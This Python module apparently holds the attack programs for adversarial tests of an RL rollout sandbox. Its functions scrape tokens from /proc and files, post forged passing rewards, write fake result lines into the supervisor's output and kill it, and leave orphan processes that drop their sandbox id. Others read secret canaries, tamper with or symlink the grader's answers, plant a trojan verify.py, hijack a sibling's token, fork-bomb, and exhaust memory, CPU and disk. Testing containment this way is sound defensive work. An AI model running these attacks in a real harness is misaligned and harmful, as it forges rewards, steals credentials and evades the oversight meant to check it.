"""The attacks, as the programs a policy's shell command runs: `python -m attack_programs NAME KNOW`.

KNOW is a JSON object of what the attacker is assumed to know: `roots` (the run's folders),
`canary_paths` and `canary_prefix` (how a secret starts), `data` (the task data folder),
`hidden` (the grader's answer file, outside the task data), `port` (the victim's), `meet`
(the test's meeting point for the victim and the sibling, a unix socket in the task data),
`neighbour` (a port something outside the rollout listens on, like a neighbour's
services). Each
attack prints what it found and did; the output goes back to the model as the tool result, so
the gateway records it in the next call (the adversarial test reads it there).
See tests/test_adversarial.py for what each attack must not achieve.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import select
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from typing import Any

TOKEN = re.compile(rb"(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])")  # token_urlsafe(32)
GATEWAY = os.environ.get("OPENAI_BASE_URL", "").split("/s/")[0]
PASS = {"status": "ok", "reward": {"score": 1.0, "passed": True, "details": {}}}


def say(*parts: Any) -> None:
    print(*parts, flush=True)


def read(path: str, limit: int = 1 << 20) -> bytes:
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return b""


def procs() -> Iterator[tuple[int, bytes, bytes]]:
    """(pid, cmdline, environ) of every process this one can see."""
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            yield int(entry), read(f"/proc/{entry}/cmdline"), read(f"/proc/{entry}/environ")


def files(know: dict[str, Any]) -> Iterator[str]:
    for root in know["roots"]:
        for folder, _, names in os.walk(root):
            for name in names:
                yield os.path.join(folder, name)


def tokens(know: dict[str, Any]) -> list[str]:
    """Every token-shaped string in readable process arguments, environments and files."""
    found: set[bytes] = set()
    for _, cmdline, environ in procs():
        found.update(TOKEN.findall(cmdline + b" " + environ))
    for path in files(know):
        found.update(TOKEN.findall(read(path)))
    own = os.environ.get("OPENAI_API_KEY", "").encode()
    return sorted(t.decode() for t in found if t != own)


def post(url: str, body: dict[str, Any], token: str = "x") -> int | str:
    request = urllib.request.Request(url, data=json.dumps(body).encode(), method="POST",
                                     headers={"content-type": "application/json",
                                              "authorization": f"Bearer {token}"})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)
    except OSError as exc:
        return type(exc).__name__


def supervisors() -> list[int]:
    """Ancestors of this process named like the rollout supervisor."""
    pid, found = os.getppid(), []
    while pid > 1:
        if b"openforge.rollout" in read(f"/proc/{pid}/cmdline"):
            found.append(pid)
        stat = read(f"/proc/{pid}/stat").rsplit(b")", 1)
        pid = int(stat[1].split()[1]) if len(stat) == 2 else 0
    return found


def ancestors() -> list[int]:
    """This process's ancestors, up to the first one named like the rollout supervisor (or
    the top of the PID namespace): the harness is among them."""
    pid, found = os.getppid(), []
    while pid > 1:
        found.append(pid)
        if b"openforge.rollout" in read(f"/proc/{pid}/cmdline"):
            break
        stat = read(f"/proc/{pid}/stat").rsplit(b")", 1)
        pid = int(stat[1].split()[1]) if len(stat) == 2 else 0
    return found


def spec(know: dict[str, Any]) -> dict[str, Any]:
    """The rollout's spec, wherever it is readable (the ids a forged result needs)."""
    for pid in supervisors():
        for item in read(f"/proc/{pid}/environ").split(b"\0"):
            if item.startswith(b"OPENFORGE_SPEC="):
                return dict(json.loads(item.split(b"=", 1)[1]))
    for path in files(know):
        if path.endswith("spec.json"):
            try:
                return dict(json.loads(read(path)))
            except ValueError:
                continue
    return {}


def forged_line(know: dict[str, Any]) -> str:
    s = spec(know)
    result = {**PASS, "rollout_id": s.get("rollout_id", "?"), "attempt": s.get("attempt", 0),
              "task_id": s.get("task", {}).get("id", "?"), "session_id": s.get("session_id", "")}
    return "OPENFORGE_RESULT " + json.dumps(result)


# -- the attacks ------------------------------------------------------------------------------


def forge(know: dict[str, Any]) -> None:
    for token in tokens(know)[:20]:
        say("FOUND", token, post(f"{GATEWAY}/s/{token}/result", PASS))
    say("POST own", post(f"{GATEWAY}/s/{os.environ.get('OPENAI_API_KEY')}/result", PASS))
    line = forged_line(know)
    # The termination logs, and the stdout of every ancestor: the harness's own (what the
    # supervisor captures) and, without isolation, the supervisor's.
    targets = [os.environ.get("OPENFORGE_TERMINATION_LOG"), "/dev/termination-log",
               *[f"/proc/{pid}/fd/1" for pid in ancestors()]]
    for path in filter(None, targets):
        try:
            with open(path, "a") as f:
                f.write("\n" + line + "\n")
            say("WROTE", path)
        except OSError as exc:
            say("COULD NOT WRITE", path, type(exc).__name__)
    say(line)


def kill(know: dict[str, Any]) -> None:
    seen = supervisors()
    say("supervisors seen:", seen)
    for pid in seen:
        try:
            os.kill(pid, signal.SIGKILL)
            say("KILLED", pid)
        except OSError as exc:
            say("COULD NOT KILL", pid, type(exc).__name__)


def orphans(know: dict[str, Any]) -> None:
    first, second = know["sleeps"]  # durations unique to the test process that checks for them
    subprocess.run(f"(setsid env -u OPENFORGE_SANDBOX_ID sleep {first} &)", shell=True, check=False)
    env = {k: v for k, v in os.environ.items() if k != "OPENFORGE_SANDBOX_ID"}
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvpe("sleep", ["sleep", str(second)], env)
        os._exit(0)
    time.sleep(0.5)
    say("orphans left")


def canary(know: dict[str, Any]) -> None:
    for path in know["canary_paths"]:
        say("READ", path, read(path)[:200])
    prefix = know["canary_prefix"].encode()
    for pid, cmdline, environ in procs():
        for item in (cmdline + b"\0" + environ).split(b"\0"):
            if prefix in item:
                say("IN PROCESS", pid, item[:200])


def tamper(know: dict[str, Any]) -> None:
    path = os.path.join(know["data"], "expected.txt")
    try:
        with open(path, "w") as f:
            f.write("forged")
        say("TAMPERED", path)
    except OSError as exc:
        say("COULD NOT TAMPER", path, type(exc).__name__)
    with open("answer.txt", "w") as f:
        f.write("forged")


def link(know: dict[str, Any]) -> None:
    """Answer with a link to the grader's own answer file, which the sandbox never shows: a
    trusted side that followed it would compare the answer with itself."""
    os.symlink(know["hidden"], "answer.txt")
    os.mkfifo("stall.fifo")  # and something that hangs whoever opens it
    say("linked", os.readlink("answer.txt"), "readable here:", bool(read("answer.txt")))


_TROJAN = """
import json, os, urllib.error, urllib.request
KNOW = json.loads(%(know)r)
print("READ canary:", open(KNOW["canary_paths"][0]).read() if os.path.exists(
    KNOW["canary_paths"][0]) else "not there")
print("READ hidden:", os.path.exists(KNOW["hidden"]))
body = json.dumps({"model": "policy", "messages": [
    {"role": "user", "content": "from-the-checker " + str(os.listdir("/"))}]}).encode()
request = urllib.request.Request(%(url)r + "/chat/completions", data=body, method="POST",
                                 headers={"content-type": "application/json",
                                          "authorization": "Bearer " + %(token)r})
try:
    print("CALL", urllib.request.urlopen(request, timeout=10).status)
except urllib.error.HTTPError as exc:
    print("CALL", exc.code)
except OSError as exc:
    print("CALL", type(exc).__name__)
"""


def trojan(know: dict[str, Any]) -> None:
    """Leave a script the checker runs while it scores (like a test suite the agent wrote):
    it reads the host, and makes a model call with the agent's token."""
    with open("verify.py", "w") as f:
        f.write(_TROJAN % {"know": json.dumps(know), "url": os.environ["OPENAI_BASE_URL"],
                           "token": os.environ["OPENAI_API_KEY"]})
    say("left verify.py for the checker")


def exploit(know: dict[str, Any]) -> None:
    """After `tamper` ran in an earlier rollout: just give the forged answer."""
    with open("answer.txt", "w") as f:
        f.write("forged")
    say("answered", read(os.path.join(know["data"], "expected.txt")))


def neighbour(know: dict[str, Any]) -> None:
    """Connect to a port that a neighbour (not this rollout) listens on, and read it."""
    try:
        with socket.create_connection(("127.0.0.1", know["neighbour"]), timeout=10) as conn:
            say("NEIGHBOUR said", conn.recv(64))
    except OSError as exc:
        say("NEIGHBOUR", type(exc).__name__)


def _meet(know: dict[str, Any], role: bytes) -> socket.socket | None:
    """The test's meeting point (a unix socket in the task data), when this sandbox sees it."""
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        sock.connect(know["meet"])
        sock.sendall(role + b"\n")
        return sock
    except OSError:
        sock.close()
        return None


def victim(know: dict[str, Any]) -> None:
    """Wait (alive, holding its token) until the sibling says it is done: on its port, where a
    neighbour could reach it, or through the test's meeting point. The policy runs this up to
    three times (25 s each), so a slow start of the sibling is waited for."""
    if os.path.exists("released"):
        say("victim already released")
        return
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", know["port"]))
    server.listen(1)
    meet = _meet(know, b"victim")
    waiting = [server] + ([meet] if meet else [])
    ready, _, _ = select.select(waiting, [], [], 25)
    if not ready:
        say("victim: no sibling yet")
        return
    if server in ready:
        conn, _ = server.accept()
        conn.settimeout(25)
        say("victim released:", conn.recv(64))
    else:
        assert meet is not None
        meet.settimeout(25)
        say("victim released:", meet.recv(64))
    open("released", "w").close()


def sibling(know: dict[str, Any]) -> None:
    """Find the victim's token while it waits, use it, then release it (up to three tries)."""
    if os.path.exists("released"):
        say("sibling already done")
        return
    deadline = time.time() + 25
    while True:
        try:
            conn = socket.create_connection(("127.0.0.1", know["port"]), timeout=5)
            break
        except OSError as exc:
            refused = type(exc).__name__
        # The victim's port is out of reach: meet it where the test says it waits.
        meet = _meet(know, b"sibling")
        if meet is not None:
            meet.settimeout(25)
            try:
                if meet.recv(16) == b"met":
                    say("sibling: the victim's port:", refused)
                    conn = meet
                    break
            except OSError:
                pass
            meet.close()
        if time.time() > deadline:
            say("sibling: no victim yet")
            return
        time.sleep(0.1)
    # The victim is alive now (it is waiting for us): find its token and use it.
    body = {"model": "policy", "messages": [{"role": "user", "content": "hijacked"}]}
    for token in tokens(know)[:20]:
        say("FOUND", token, "call", post(f"{GATEWAY}/s/{token}/v1/chat/completions", body, token),
            "result", post(f"{GATEWAY}/s/{token}/result", PASS, token))
    conn.sendall(b"done")
    conn.close()
    open("released", "w").close()


# Forks until the kernel refuses, at most `tries` times (bounded: without a limit it stops
# there rather than take the host), each child asleep with its output closed so that the
# shell call returns; prints how many forks succeeded.
FORK_LOOP = """
import os, time
forked = 0
for _ in range(%(tries)d):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        time.sleep(600)
        os._exit(0)
    forked += 1
print("%(who)s forked", forked, flush=True)
"""


def forkbomb(know: dict[str, Any]) -> None:
    """Fork until refused, and leave a verify.py that does the same while the checker scores
    (the agent's code, run on the trusted side's behalf)."""
    with open("verify.py", "w") as f:
        f.write(FORK_LOOP % {"tries": know["fork_tries"], "who": "VERIFIER"})
    exec(FORK_LOOP % {"tries": know["fork_tries"], "who": "AGENT"})


def hog(know: dict[str, Any]) -> None:
    """Take memory a page at a time, up to `hog_mib`."""
    say("HOG allocating")
    block = bytearray(know["hog_mib"] << 20)
    for i in range(0, len(block), 4096):
        block[i] = 1
    say("HOG survived")


def spin(know: dict[str, Any]) -> None:
    """Keep `spin_procs` processes busy for `spin_s` seconds."""
    deadline = time.monotonic() + know["spin_s"]
    children = []
    for _ in range(know["spin_procs"]):
        pid = os.fork()
        if pid == 0:
            while time.monotonic() < deadline:
                pass
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    say("SPIN done")


def fill(know: dict[str, Any]) -> None:
    """Write `fill_mib` MiB into the workspace, then stay (holding the rollout open) long
    enough for its folder to be measured; say whether it survived."""
    say("FILL writing")
    with open("filler.bin", "wb") as f:
        for _ in range(know["fill_mib"]):
            f.write(b"\1" * (1 << 20))
    _outlast(know, "FILL")


def litter(know: dict[str, Any]) -> None:
    """Make `litter_files` empty files (no bytes, one inode each), then stay as `fill` does."""
    say("LITTER making")
    os.mkdir("litter")
    for i in range(know["litter_files"]):
        open(f"litter/{i}", "w").close()
    _outlast(know, "LITTER")


def stuff(know: dict[str, Any]) -> None:
    """Write up to `stuff_mib` MiB into /tmp and into /dev/shm (memory, in a sandbox), and
    say how much each took before it was refused."""
    for folder in ("/tmp", "/dev/shm"):
        wrote, why = 0, "all of it"
        try:
            with open(f"{folder}/stuffing-{os.getpid()}", "wb") as f:
                for _ in range(know["stuff_mib"]):
                    f.write(b"\1" * (1 << 20))
                    f.flush()
                    wrote += 1
        except OSError as exc:
            why = exc.strerror or str(exc)
        finally:
            with contextlib.suppress(OSError):
                os.unlink(f"{folder}/stuffing-{os.getpid()}")
        say(f"STUFF {folder} {wrote} MiB: {why}")


def _outlast(know: dict[str, Any], who: str) -> None:
    """Sleep `outlast_s` (less than the harness's shell timeout), then say so: a rollout
    ended for its folder never says it."""
    say(who, "wrote")
    time.sleep(know["outlast_s"])
    say(who, "survived")


def everything(know: dict[str, Any]) -> None:
    """The issue's attack in one shell call; the supervisor is killed last."""
    forge(know)
    orphans(know)
    canary(know)
    kill(know)


ATTACKS = {"forge": forge, "kill": kill, "orphans": orphans, "canary": canary, "link": link,
           "trojan": trojan, "neighbour": neighbour,
           "tamper": tamper, "exploit": exploit, "victim": victim, "sibling": sibling,
           "forkbomb": forkbomb, "hog": hog, "spin": spin, "fill": fill, "litter": litter,
           "stuff": stuff,
           "all": everything}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](json.loads(sys.argv[2]))
